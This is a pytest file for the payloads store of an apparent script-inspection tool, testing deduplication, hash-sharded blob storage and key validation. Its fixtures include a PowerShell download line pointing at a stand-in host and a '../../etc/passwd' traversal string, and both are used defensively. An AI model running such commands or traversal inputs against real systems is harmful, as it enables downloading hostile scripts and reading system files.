"""The payloads repository: content-addressed metadata and bytes, run on SQLite and PostgreSQL alike."""

from __future__ import annotations

import hashlib

import pytest
import sqlalchemy as sa

from inspector.model import VerdictClass
from inspector.store import Store
from inspector.store.blobs import BlobError
from inspector.store.schema import payloads
from inspector.store.testing import blobs_of, make_verdict


async def _done(store: Store, inspection_id: str, contents: list[bytes], **kw: object) -> None:
    await store.inspections.create(inspection_id, "extension", {"type": "CustomScript"}, None, None, kw.pop("name", None))  # type: ignore[arg-type]
    await store.inspections.save_verdict(inspection_id, make_verdict(inspection_id, contents, **kw), blobs_of(contents))  # type: ignore[arg-type]


# ---------------------------------------------------------------- payloads and blobs


async def test_payloads_are_deduplicated_across_inspections(store: Store) -> None:
    shared = b"Invoke-WebRequest http://example.invalid/a.ps1"
    await _done(store, "p1", [shared, b"only in p1"], ruleset="v1")
    await _done(store, "p2", [b"root of p2", shared], ruleset="v2", verdict=VerdictClass.SUSPICIOUS, score=400)
    sha = hashlib.sha256(shared).hexdigest()
    info = await store.payloads.get(sha)
    assert info is not None and info.size == len(shared) and info.blob_available and not info.expired
    assert info.inspections == ["p2", "p1"]
    assert {(v.ruleset_version, v.inspection_id, v.verdict) for v in info.verdicts} == {
        ("v2", "p2", VerdictClass.SUSPICIOUS),
        ("v1", "p1", VerdictClass.CLEAN),
    }
    assert info.last_seen >= info.first_seen
    async with store.database.engine.connect() as conn:
        assert await conn.scalar(sa.select(sa.func.count()).select_from(payloads)) == 3
    assert await store.payloads.get_bytes(sha) == shared
    assert await store.payloads.get("0" * 64) is None


async def test_blobs_are_sharded_by_hash_prefix(store: Store) -> None:
    await _done(store, "s1", [b"sharded"])
    sha = hashlib.sha256(b"sharded").hexdigest()
    assert (store.blobs.root / sha[:2] / sha[2:4] / sha).read_bytes() == b"sharded"


async def test_an_artifact_without_bytes_is_recorded_as_unavailable(store: Store) -> None:
    await store.inspections.create("nb", "url", {}, None, None)
    await store.inspections.save_verdict("nb", make_verdict("nb", [b"not stored"]), {})
    info = await store.payloads.get(hashlib.sha256(b"not stored").hexdigest())
    assert info is not None and not info.blob_available and not info.expired
    assert await store.payloads.get_bytes(info.sha256) is None


async def test_get_blob_rejects_keys_that_are_not_hashes(store: Store) -> None:
    with pytest.raises(BlobError):
        await store.payloads.get_bytes("../../etc/passwd")
